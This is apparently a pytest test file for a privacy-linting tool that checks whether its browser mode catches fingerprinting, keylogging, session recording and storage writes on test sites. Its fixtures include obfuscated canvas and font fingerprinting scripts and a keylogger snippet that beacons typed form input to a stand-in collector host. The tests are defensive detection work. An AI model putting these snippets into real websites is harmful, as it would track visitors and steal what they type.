"""`--browser` sees what scripts do, not only what they request (issue 25): an init script
installed before any page script reports canvas and font fingerprinting and typed-input
listeners, with the script and line that did it. Code static reading cannot follow (names
computed at run time, as minified vendor code has them) is what only the browser sees.
"""

from __future__ import annotations

import shutil

import pytest
from conftest import lint, make_site, needs

from privacylint.browser.options import BrowserOptions
from privacylint.checks import CHECK_IDS

RULES = """\
version: 1
site: {url: "https://example.org/"}
statement: {page: /privacy/}
"""
HOME = '<a href="/privacy/">Privacy</a>'
PRIVACY = "<h1>Privacy</h1>"
# Method names decoded at run time: static reading sees no fillText or toDataURL call.
CANVAS = """\
var c = document.createElement('canvas'), x = c.getContext('2d');
x[atob('ZmlsbFRleHQ=')]('Cwm fjordbank glyphs', 2, 15);
var id = c[atob('dG9EYXRhVVJM')]();
"""
FONTS = """\
var x = document.createElement('canvas').getContext('2d'), widths = [];
['Arial', 'Verdana', 'Tahoma', 'Georgia', 'Garamond', 'Courier New', 'Calibri', 'Cambria', 'Candara',
 'Consolas', 'Constantia', 'Corbel', 'Futura', 'Gill Sans', 'Helvetica', 'Impact', 'Lucida', 'Monaco',
 'Optima', 'Palatino', 'Rockwell', 'Segoe UI', 'Trebuchet MS'].forEach(function (f) {
  x.font = '72px ' + f + ', monospace'; widths.push(x[atob('bWVhc3VyZVRleHQ=')]('mmmmmmmmmmlli').width); });
"""
CHART = """\
var c = document.createElement('canvas'), x = c.getContext('2d');
x.fillRect(0, 0, 10, 10); document.body.appendChild(c); var png = c.toDataURL();
"""
KEYS = "document.addEventListener('keydown', function (e) { window.last = e.key; });\n"


@pytest.fixture(autouse=True)
def browser_available():
    pytest.importorskip("playwright.async_api")
    needs("chromium", bool(shutil.which("chromium") or shutil.which("chromium-browser")),
          "install it with: apt-get install chromium", "chromium")


def run(tmp_path, files: dict, browser: bool = True):
    site = make_site(tmp_path / "site", {"index.html": HOME, "privacy/index.html": PRIVACY, **files})
    options = {"browser": BrowserOptions(pages="all", timeout=15)} if browser else {}
    return lint(site, RULES, enabled=CHECK_IDS - {"PL104", "PL305"}, **options)


def test_canvas_and_font_fingerprinting_are_observed_with_script_and_line(tmp_path):
    files = {"fp/index.html": '<body><script src="/assets/fp.js"></script><script src="/assets/fonts.js"></script>',
             "assets/fp.js": CANVAS, "assets/fonts.js": FONTS}
    assert [f for f in run(tmp_path, files, browser=False).findings if f.check == "PL109"] == []
    result = run(tmp_path, files)
    found = sorted((f.path, f.subject, f.evidence) for f in result.findings if f.check == "PL109")
    assert found == [("fp/index.html", "canvas-fingerprint", "observed"), ("fp/index.html", "font-fingerprint", "observed")]
    canvas = next(f for f in result.findings if f.subject == "canvas-fingerprint")
    assert "(observed, made by https://example.org/assets/fp.js:3)" in canvas.message
    font = next(f for f in result.findings if f.subject == "font-fingerprint")
    assert "(observed, made by https://example.org/assets/fonts.js:5)" in font.message


def test_a_chart_and_a_key_listener_are_no_fingerprint(tmp_path):
    files = {"chart/index.html": '<body><script src="/assets/chart.js"></script><script src="/assets/keys.js"></script>',
             "assets/chart.js": CHART, "assets/keys.js": KEYS}
    result = run(tmp_path, files)
    assert [f for f in result.findings if f.check == "PL109"] == []
    chart = next(p for p in result.inventory["observed"] if p["page"] == "chart/index.html")
    assert chart["behaviours"] == [{"kind": "input-listener", "detail": "keydown",
                                    "script": "https://example.org/assets/keys.js", "line": 1}]


def test_a_page_cannot_reach_the_report_channel(tmp_path):
    forge = ("<script>window.__privacylintSeen && window.__privacylintSeen("
             "JSON.stringify(['canvas-fingerprint', 'forged', 'at https://example.org/x.js:1:1']));"
             " window.forgedAt = typeof window.__privacylintSeen;</script>")
    result = run(tmp_path, {"forge/index.html": forge})
    assert [f for f in result.findings if f.check == "PL109"] == []


FORM = '<body><form action="/signup/"><input type="email" name="email"><button>Sign up</button></form>' \
       '<script src="/assets/keys.js"></script></body>'
SEARCH = '<body><form role="search" action="/search/"><input type="text" name="q"></form>' \
         '<script src="/assets/keys.js"></script></body>'
KEYLOGGER = """\
var field = document.querySelector('input');
field.addEventListener('keyup', function () {
  new Image().src = 'https://collect.example.net/k?v=' + encodeURIComponent(field.value); });
"""


def test_typed_input_sent_before_submit_is_pl110_with_its_script(tmp_path):
    result = run(tmp_path, {"form/index.html": FORM, "assets/keys.js": KEYLOGGER})
    [finding] = [f for f in result.findings if f.check == "PL110"]
    assert (finding.path, finding.subject, finding.evidence) == ("form/index.html", "input-sent", "observed")
    assert "(observed, made by https://example.org/assets/keys.js:2)" in finding.message  # its listener
    assert "typed text sent to https://collect.example.net/k?v=plcanary.7319%40example.com before submit " \
           "(URL-encoded)" in finding.message


def test_a_search_box_is_not_typed_into(tmp_path):
    result = run(tmp_path, {"search/index.html": SEARCH, "assets/keys.js": KEYLOGGER})
    assert [f for f in result.findings if f.check == "PL110"] == []


def test_a_key_logger_a_fingerprinter_and_a_session_recorder_each_at_their_script(tmp_path):
    """Issue 25's test site: one page with a self-hosted key logger, a canvas fingerprinter and a
    session recorder, each reported with the script and line that did it; a clean page of the same
    site reports nothing (the false-alarm control)."""
    recorder = "var s = document.createElement('script');\ns.src = 'https://static.hotjar.com/c/hotjar-1.js';\n" \
               "document.head.appendChild(s);\n"
    page = ('<body><form action="/signup/"><input type="email" name="email"></form>'
            '<script src="/assets/keys.js"></script><script src="/assets/fp.js"></script>'
            '<script src="/assets/rec.js"></script></body>')
    files = {"all/index.html": page, "clean/index.html": "<body><p>Nothing here.</p></body>",
             "assets/keys.js": KEYLOGGER, "assets/fp.js": CANVAS, "assets/rec.js": recorder}
    site = make_site(tmp_path / "site", {"index.html": HOME, "privacy/index.html": PRIVACY, **files})
    declared = RULES + "collectors:\n  - {name: Hotjar, vendor: hotjar, purpose: session recording}\n"
    result = lint(site, declared, enabled=CHECK_IDS - {"PL104", "PL305"},
                  browser=BrowserOptions(pages="all", timeout=15))
    found = {f.check: f for f in result.findings if f.check in ("PL109", "PL110", "PL111")}
    assert sorted(found) == ["PL109", "PL110", "PL111"]
    assert "made by https://example.org/assets/keys.js:2" in found["PL110"].message
    assert "made by https://example.org/assets/fp.js:3" in found["PL109"].message
    assert (found["PL111"].path, found["PL111"].line, found["PL111"].subject) == ("assets/rec.js", 2, "hotjar.com")
    assert [f for f in result.findings if f.path == "clean/index.html"] == []


def test_storage_and_cookie_writes_as_they_happen_with_their_attributes(tmp_path):
    """Storage over time: a key written then removed during load (gone when storage is read at
    the end) and a cookie's attributes, never its value, each at the script line that did it."""
    script = ("localStorage.setItem('probe-test', '1');\nlocalStorage.removeItem('probe-test');\n"
              "document.cookie = 'pref=dark; max-age=31536000; SameSite=Lax; Secure';\n")
    result = run(tmp_path, {"s/index.html": '<body><script src="/assets/s.js"></script>', "assets/s.js": script})
    page = next(p for p in result.inventory["observed"] if p["page"] == "s/index.html")
    by = "https://example.org/assets/s.js"
    assert page["behaviours"] == [
        {"kind": "storage-write", "detail": "local probe-test", "script": by, "line": 1},
        {"kind": "storage-removed", "detail": "local probe-test", "script": by, "line": 2},
        {"kind": "cookie-write", "detail": "pref; max-age=31536000; SameSite=Lax; Secure", "script": by, "line": 3}]
    assert "dark" not in str(page["behaviours"])
